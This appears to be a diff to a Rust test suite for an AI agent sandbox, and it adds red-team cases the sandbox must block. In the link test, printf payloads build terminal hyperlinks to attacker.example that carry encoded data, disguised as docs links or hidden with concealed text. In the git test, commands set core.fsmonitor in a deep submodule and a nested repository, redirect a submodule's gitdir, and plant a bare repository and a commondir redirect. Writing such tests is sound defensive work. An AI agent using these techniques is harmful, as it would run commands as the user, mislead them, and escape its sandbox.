@@ -286,9 +286,10 @@ async fn the_agent_cannot_write_the_users_clipboard_through_sandbox_attach() -> 
 
 /// What the agent writes to its pane (through tmux passthrough, so that tmux passes it
 /// unchanged) so that the user clicks it: a link whose text shows the docs over an address
-/// carrying its data, one to the user's own machine, the folder the user's next tab opens in,
-/// and a title report, whose answer the terminal would type into the session. The user's
-/// terminal gets the text, none of the rest.
+/// carrying its data (the attacker's host named inside other text, or hidden by concealed
+/// text), one to the user's own machine, the folder the user's next tab opens in, and a title
+/// report, whose answer the terminal would type into the session. The user's terminal gets the
+/// text, none of the rest; an honest link passes.
 #[tokio::test]
 async fn the_agent_cannot_show_the_user_a_link_whose_text_lies() -> anyhow::Result<()> {
     let payload = r"printf '\033Ptmux;\033\033]8;;https://attacker.example/?d=c2VjcmV0\033\033\\\033\\' > $T; \
@@ -296,14 +297,20 @@ async fn the_agent_cannot_show_the_user_a_link_whose_text_lies() -> anyhow::Resu
          printf '\033Ptmux;\033\033]8;;\033\033\\\033\\' > $T; \
          printf '\033Ptmux;\033\033]8;;http://127.0.0.1:8080/x\033\033\\127.0.0.1\033\033]8;;\033\033\\\033\\' > $T; \
          printf '\033Ptmux;\033\033]7;file://host/home/user/evil\033\033\\\033\\' > $T; \
-         printf '\033Ptmux;\033\033[21t\033\\' > $T";
+         printf '\033Ptmux;\033\033[21t\033\\' > $T; \
+         printf '\033Ptmux;\033\033]8;;https://attacker.example/?d=2\033\033\\https://docs.anthropic.com/en/attacker.example\033\033]8;;\033\033\\\033\\' > $T; \
+         printf '\033Ptmux;\033\033]8;;https://attacker.example/?d=3\033\033\\attacker.example\033\033[8m docs.anthropic.com\033\033]8;;\033\033\\\033\\' > $T; \
+         printf '\033[0m\033Ptmux;\033\033]8;;https://docs.anthropic.com/en/docs\033\033\\docs.anthropic.com\033\033]8;;\033\033\\\033\\' > $T";
     let seen = seen_while_attached(|id| format!("docker exec -it {id} sandbox-attach"), payload).await?;
     assert!(
         seen.contains("before-mark") && seen.contains("after-mark"),
         "the terminal showed nothing: {seen:?}"
     );
-    // The positive control: the link's text reached the user.
+    // The positive controls: the links' text reached the user, and a link whose text is its
+    // host passed whole.
     assert!(seen.contains("https://docs.anthropic.com/en/docs"), "{seen:?}");
+    assert!(seen.contains("https://docs.anthropic.com/en/attacker.example"), "{seen:?}");
+    assert!(seen.contains("]8;;https://docs.anthropic.com/en/docs\x1b\\docs.anthropic.com"), "{seen:?}");
     for sequence in ["]8;;https://attacker", "]8;;http://127.0.0.1", "]7;", "[21t"] {
         assert!(!seen.contains(sequence), "`{sequence}` reached the user's terminal: {seen:?}");
     }
@@ -475,6 +482,19 @@ fn git_project(project: &sandbox_tests::launcher::Project) -> anyhow::Result<()>
     git(&["add", "README"])?;
     git(&["commit", "-qm", "first"])?;
     git(&["clone", "-q", "--bare", ".", "upstream.git"])?;
+    // A submodule at a deep path (its git directory is .git/modules/third_party/lib/foo) and a
+    // repository nested in the project before the run.
+    git(&[
+        "-c",
+        "protocol.file.allow=always",
+        "submodule",
+        "add",
+        "-q",
+        "./upstream.git",
+        "third_party/lib/foo",
+    ])?;
+    git(&["commit", "-qm", "a submodule"])?;
+    git(&["init", "-q", "vendor/x"])?;
     std::process::Command::new("chown").args(["-R", "1000:1000", &project.path]).status()?;
     Ok(())
 }
@@ -493,11 +513,13 @@ fn users_git_status_runs_the_agents_command(
 }
 
 /// The agent writes the project's git configuration so that the user's next `git status` on
-/// the host runs its command as the user (`core.fsmonitor`; a hook for the next commit), moves
-/// `.git` away to put its own in its place, and then, past what mounts can stop, plants a
-/// repository nested in the project (registered as a submodule, whose configuration the
-/// user's git runs) and a `commondir` that points git at a configuration of its own. The
-/// first three are refused (read-only mounts, a mount point), and the user's `git status` runs
+/// the host runs its command as the user (`core.fsmonitor`; a hook for the next commit; the
+/// same in a submodule at a deep path and in a repository nested before the run), moves
+/// `.git` away to put its own in its place, points a submodule's `.git` file at a git
+/// directory of its own, and then, past what mounts can stop, plants a repository nested in
+/// the project (registered as a submodule, whose configuration the user's git runs), a bare
+/// one under another name, and a `commondir` that points git at a configuration of its own.
+/// The first are refused (read-only mounts, a mount point), and the user's `git status` runs
 /// nothing; `stop` names the last two and exits 72. Inside, git still adds, commits, branches
 /// and fetches. The control: with `--writable-git-config` the same write makes the user's
 /// `git status` run the agent's command.
@@ -517,6 +539,11 @@ async fn the_agent_cannot_make_the_users_git_run_its_commands() -> anyhow::Resul
         "printf '#!/bin/sh\\ntouch pwned-by-the-agent\\n' > .git/hooks/pre-commit",
         "mv .git .git-moved",
         "rm -rf .git/hooks",
+        // Found by a red team: a submodule at a deep path, its `.git` file pointed at a git
+        // directory of the agent's, and a repository nested before the run.
+        "git -C third_party/lib/foo config core.fsmonitor 'touch ../../../pwned-by-the-agent; false'",
+        "echo 'gitdir: ../../../.git/cache' > third_party/lib/foo/.git",
+        "git -C vendor/x config core.fsmonitor 'touch ../../pwned-by-the-agent; false'",
     ] {
         let out = agent(attack).await?;
         assert_ne!(out.code, 0, "`{attack}` succeeded: {out:?}");
@@ -530,20 +557,26 @@ async fn the_agent_cannot_make_the_users_git_run_its_commands() -> anyhow::Resul
          && git log --oneline | wc -l",
     )
     .await?;
-    assert_eq!((work.code, work.stdout.trim()), (0, "2"), "{work:?}");
+    assert_eq!((work.code, work.stdout.trim()), (0, "3"), "{work:?}");
     // What mounts cannot stop: a nested repository with its own configuration, registered as
     // a submodule, and a redirect of the main repository's configuration.
     let planted = agent(
         "mkdir sub && cd sub && git init -q && git -c user.name=a -c user.email=a@x commit -q --allow-empty -m s \
          && git config core.fsmonitor 'touch ../pwned-by-the-agent; false' && cd .. && git add sub \
-         && echo ../evil > .git/commondir",
+         && echo ../evil > .git/commondir \
+         && git init -q --bare docs/api",
     )
     .await?;
     assert_eq!(planted.code, 0, "{planted:?}");
     let stopped = launcher.run(&["stop", &id]).await?;
     assert_eq!(stopped.code, 72, "{stopped:?}");
-    assert!(stopped.stderr.contains("new repository in the project: sub/.git"), "{}", stopped.stderr);
-    assert!(stopped.stderr.contains(".git/commondir"), "{}", stopped.stderr);
+    for named in [
+        "new repository in the project: sub/.git",
+        ".git/commondir",
+        "new repository in the project: docs/api",
+    ] {
+        assert!(stopped.stderr.contains(named), "{named}: {}", stopped.stderr);
+    }
 
     // The control: the protection off, the same write reaches the user.
     let project = Project::new()?;
